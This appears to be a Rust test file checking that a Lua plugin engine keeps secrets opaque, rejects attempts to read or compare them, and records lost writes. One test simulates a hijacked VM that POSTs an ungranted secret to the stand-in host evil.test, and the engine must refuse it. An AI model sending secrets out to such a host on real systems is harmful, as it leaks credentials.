//! Secrets in a plugin's hands: joined, computed with, sent; never seen.

use std::sync::Arc;

use cutover_engine::ctx::Mode;
use cutover_engine::effect::EffectError;
use cutover_engine::step::{BoxFuture, Fate, Step};
use cutover_engine::value::{Piece, Value};
use cutover_lua::manifest::{Does, StepDecl};
use cutover_lua::step::LuaStep;
use cutover_lua::vm::{Answer, Ask, Machine, Session, Task, Word};

use crate::support::{grants, params, run, run_with, spec};
use crate::world::{World, block_on};

fn world() -> World {
    World::new(|_| Ok((200, "{}".into())))
}

/// The plain text of the secret that an expression over `p.value` gives, and where it comes from.
fn gives(expression: &str, plain: &str) -> (String, String) {
    let world = world();
    let body = format!("return {{ id = 'x', token = {expression} }}");
    let done = run_with(&world, &body, [("value", world.secret("value", plain))]);
    let done = done.unwrap_or_else(|error| panic!("{error}"));
    let text = done["token"].as_text().expect("it is text");
    let origin = match cutover_engine::value::pieces(text).as_slice() {
        [Piece::Secret(handle)] => handle.origin.clone(),
        _ => "mixed".to_owned(),
    };
    (world.table.open(text), origin)
}

#[test]
fn a_secret_is_joined_with_text_and_stays_one() {
    assert_eq!(gives("'Bearer ' .. p.value .. 5", "plain").0, "Bearer plain5");
    assert_eq!(gives("p.value", "plain"), ("plain".into(), "inputs.value".into()));
}

#[test]
fn what_is_computed_of_a_secret_is_one_and_named_after_its_output() {
    for (expression, plain, gave) in [
        ("p.value:base64()", "plain", "cGxhaW4="),
        ("base64.encode('x' .. p.value)", "y", "eHk="),
        ("p.value:trim()", " plain\n", "plain"),
        ("p.value:json('a.b')", r#"{"a": {"b": "inner"}}"#, "inner"),
        ("hex.encode(p.value)", "ab", "6162"),
        ("json.encode{ a = p.value }", "qu\"ote", r#"{"a":"qu\"ote"}"#),
        ("url.encode(p.value)", "a b", "a%20b"),
        (
            "crypto.hmac('key', p.value)",
            "The quick brown fox jumps over the lazy dog",
            "f7bc83f430538424b13298e6aa6fb143ef4d59a14946175997479dbc2d1a3cd8",
        ),
    ] {
        let (opened, origin) = gives(expression, plain);
        assert_eq!((opened.as_str(), origin.as_str()), (gave, "steps.issue.token"), "{expression}");
    }
}

#[test]
fn only_what_is_asked_to_be_public_is() {
    let world = world();
    let body = r#"
        return { id = crypto.hmac(p.value, "message", { public = true }),
          note = p.value:fingerprint() .. tostring(crypto.equal(p.value, p.value)) }"#;
    let value = world.secret("value", "a-value-of-more-than-20-characters");
    let done = run_with(&world, body, [("value", value)]).unwrap();
    assert_eq!(done["id"].as_text().unwrap().len(), 64);
    assert!(done["note"].as_text().unwrap().ends_with("true"));
}

#[test]
fn looking_into_a_secret_raises_and_says_which() {
    for (body, words) in [
        ("return #p.value", "***(inputs.value) is a secret, and its length is not told"),
        ("return p.value.x", "***(inputs.value) is a secret, and nothing in it can be read"),
        ("return p.value == ctx.config.admin_token", "is a secret, and is not compared"),
        ("return p.value < 'x'", "attempt to compare secret < string"),
        ("return json.decode(p.value)", "`json.decode` would look into a secret"),
        ("return json.encode{ a = p.value }:json(p.value)", "`path` is no place for a secret"),
        (
            "return ctx.random{ length = 8, alphabet = p.value }",
            "`alphabet` is no place for a secret",
        ),
        (
            "return ctx.http{ base = ctx.config.url }:get('/' .. p.value)",
            "`path` is no place for a secret",
        ),
        ("return ctx.exec{ argv = { 'x', p.value } }", "`argv` is no place for a secret"),
        ("return ctx.fs.write('x', tostring(p.value))", "which is a secret made text"),
        ("return { id = tostring(p.value) }", "which is a secret made text"),
    ] {
        let world = world();
        let error = run_with(&world, body, [("value", world.secret("value", "plain-value"))]);
        let error = error.expect_err(body);
        assert!(error.message.contains(words), "{body}: {}", error.message);
        assert!(world.asked().is_empty());
    }
}

#[test]
fn an_answer_that_shows_a_secret_in_the_clear_gives_a_secret() {
    let world = World::new(|_| Ok((200, r#"{"seen": "it is root-token-plain"}"#.into())));
    let body = "return { id = 'x', note = ctx.http{ base = ctx.config.url }:get('/').json.seen }";
    let error = run(&world, body).expect_err("it is secret");
    assert!(error.message.contains("gave a secret as `note`"), "{error}");
}

#[test]
fn a_secret_of_digits_is_one_as_a_number_too() {
    let world = World::new(|_| Ok((200, r#"{"seen": 734019285501467}"#.into())));
    let body = "return { id = 'x', note = ctx.http{ base = ctx.config.url }:get('/').json.seen }";
    let error = run_with(&world, body, [("value", world.secret("value", "734019285501467"))]);
    let error = error.expect_err("it is secret");
    assert!(error.message.contains("gave a secret as `note`"), "{error}");
}

/// A VM that was taken over: it asks with a mark that nobody gave it.
struct Rogue(String);

impl Machine for Rogue {
    fn start(&self, _task: Task) -> Box<dyn Session> {
        Box::new(Self(self.0.clone()))
    }
}

impl Session for Rogue {
    fn next(&mut self) -> BoxFuture<'_, Word> {
        let client = Value::map([("base", Value::from("https://evil.test"))]);
        let options = Value::map([("body", Value::from(self.0.clone()))]);
        let args = [("method", "POST".into()), ("client", client), ("options", options)];
        let ask = Ask { op: "http".to_owned(), args: Value::map(args) };
        Box::pin(async move { Word::Ask(ask) })
    }

    fn answer(&mut self, answer: Answer) {
        let refusal = answer.expect_err("it was not given to it");
        assert!(refusal.stop);
        panic!("refused: {}", refusal.message);
    }
}

#[test]
#[should_panic(expected = "refused: the secret `inputs.other` was not given to this call")]
fn a_secret_that_was_not_given_to_this_call_does_not_go_out() {
    let world = world();
    let foreign = world.secret("other", "foreign-plain");
    let rogue = Rogue(foreign.as_text().unwrap().to_owned());
    let does = Does { run: true, ..Does::default() };
    let decl = StepDecl { spec: spec(), does };
    let step = LuaStep::new(decl, "issue", Arc::default(), Arc::new(rogue), grants());
    let _ = block_on(step.run(&params(&world, []), &world.ctx(Mode::Run)));
}

#[test]
fn a_write_without_an_answer_is_lost_whatever_the_code_makes_of_it() {
    for body in [
        "ctx.http{ base = ctx.config.url }:post('/', {})",
        "pcall(function() ctx.http{ base = ctx.config.url }:post('/', {}) end) return { id = 'x' }",
        "xpcall(function() ctx.http{ base = ctx.config.url }:post('/', {}) end, function() return 1 end) \
         fail{ code = 'x', message = 'no' }",
    ] {
        let lost = || EffectError::Lost { message: "`POST /` got no answer".into() };
        let world = World::new(move |_| Err(lost()));
        let error = run(&world, body).expect_err(body);
        assert_eq!((error.fate, error.code.as_str()), (Fate::Lost, "lost"), "{body}");
        assert_eq!(world.asked().len(), 1);
    }
}
